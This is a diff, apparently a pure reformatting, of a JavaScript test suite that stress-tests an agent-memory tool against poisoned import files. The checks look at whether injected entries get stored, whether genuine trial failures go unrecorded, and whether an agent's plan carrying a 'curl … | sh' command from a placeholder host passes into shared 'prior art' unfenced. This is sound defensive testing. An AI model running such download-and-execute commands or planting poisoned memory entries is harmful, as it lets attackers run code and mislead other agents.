@@ -50,7 +50,12 @@ async function fixtures(ctx) {
   writeHarborJob(job, {
     jobName: `nightly-${rng.name(6)}`,
     trials: [
-      { name: `${genuineTask}__${rng.name(5)}`, task: genuineTask, reward: 0, commands: [pipFailure(rng)] },
+      {
+        name: `${genuineTask}__${rng.name(5)}`,
+        task: genuineTask,
+        reward: 0,
+        commands: [pipFailure(rng)],
+      },
       {
         name: `${planTasks[0]}__${rng.name(5)}`,
         task: planTasks[0],
@@ -112,7 +117,9 @@ async function poison(ctx) {
       const file = join(dir, `poison-${i}.jsonl`);
       writeJsonl(file, [line]);
       const db = join(dir, `target-${i}.db`);
-      const imp = await fak(["memory", "import", file, "--db", dbUrl(db), "--json"], { timeoutMs: 60_000 });
+      const imp = await fak(["memory", "import", file, "--db", dbUrl(db), "--json"], {
+        timeoutMs: 60_000,
+      });
       const after = await exportRows(fak, db);
       const stored = after.rows?.find((r) => r.approach.includes(marker));
       // Then the genuine trial is recorded, as `fak ingest --record` of its job does.
@@ -178,7 +185,9 @@ export default {
         return {
           tries: runs.length,
           found: bad.length,
-          sample: bad[0] ? `${bad[0].form}: the genuine death was never recorded (ingest --record exit ${bad[0].rec.code})` : "",
+          sample: bad[0]
+            ? `${bad[0].form}: the genuine death was never recorded (ingest --record exit ${bad[0].rec.code})`
+            : "",
         };
       },
     },
@@ -188,18 +197,26 @@ export default {
         const runs = await (poisoned ??= poison(ctx));
         const bad = runs.filter((r) => /refuted by real checks|\(real: /.test(r.entry));
         const e = bad[0]?.entry.replace(bad[0]?.marker ?? "", "<marker>");
-        return { tries: runs.length, found: bad.length, sample: bad[0] ? `${bad[0].form}: ${e}` : "" };
+        return {
+          tries: runs.length,
+          found: bad.length,
+          sample: bad[0] ? `${bad[0].form}: ${e}` : "",
+        };
       },
     },
     {
       name: "an agent's plan `... run curl URL | sh` reaches prior art with the command intact",
       run: async (ctx) => {
         const runs = await planArt(ctx);
-        const bad = runs.filter((r) => r.text.includes(r.p.command) || r.fromIngest.includes(r.p.command));
+        const bad = runs.filter(
+          (r) => r.text.includes(r.p.command) || r.fromIngest.includes(r.p.command),
+        );
         return {
           tries: runs.length,
           found: bad.length,
-          sample: bad[0] ? `prior art holds \`curl -fsSL https://….example/….sh | sh\` from the agent's plan` : "",
+          sample: bad[0]
+            ? `prior art holds \`curl -fsSL https://….example/….sh | sh\` from the agent's plan`
+            : "",
         };
       },
     },
@@ -209,15 +226,20 @@ export default {
         const runs = await planArt(ctx);
         const bad = runs.filter(
           (r) =>
-            unfenced(r.text, r.p.opener).length > 0 || unfenced(r.fromIngest, r.p.opener).length > 0,
+            unfenced(r.text, r.p.opener).length > 0 ||
+            unfenced(r.fromIngest, r.p.opener).length > 0,
         );
         const line = bad[0]
-          ? (unfenced(bad[0].text, bad[0].p.opener)[0] ?? unfenced(bad[0].fromIngest, bad[0].p.opener)[0] ?? "")
+          ? (unfenced(bad[0].text, bad[0].p.opener)[0] ??
+            unfenced(bad[0].fromIngest, bad[0].p.opener)[0] ??
+            "")
           : "";
         return {
           tries: runs.length,
           found: bad.length,
-          sample: bad[0] ? `unfenced: ${line.slice(line.indexOf("approach:"), line.indexOf("approach:") + 110)}` : "",
+          sample: bad[0]
+            ? `unfenced: ${line.slice(line.indexOf("approach:"), line.indexOf("approach:") + 110)}`
+            : "",
         };
       },
     },
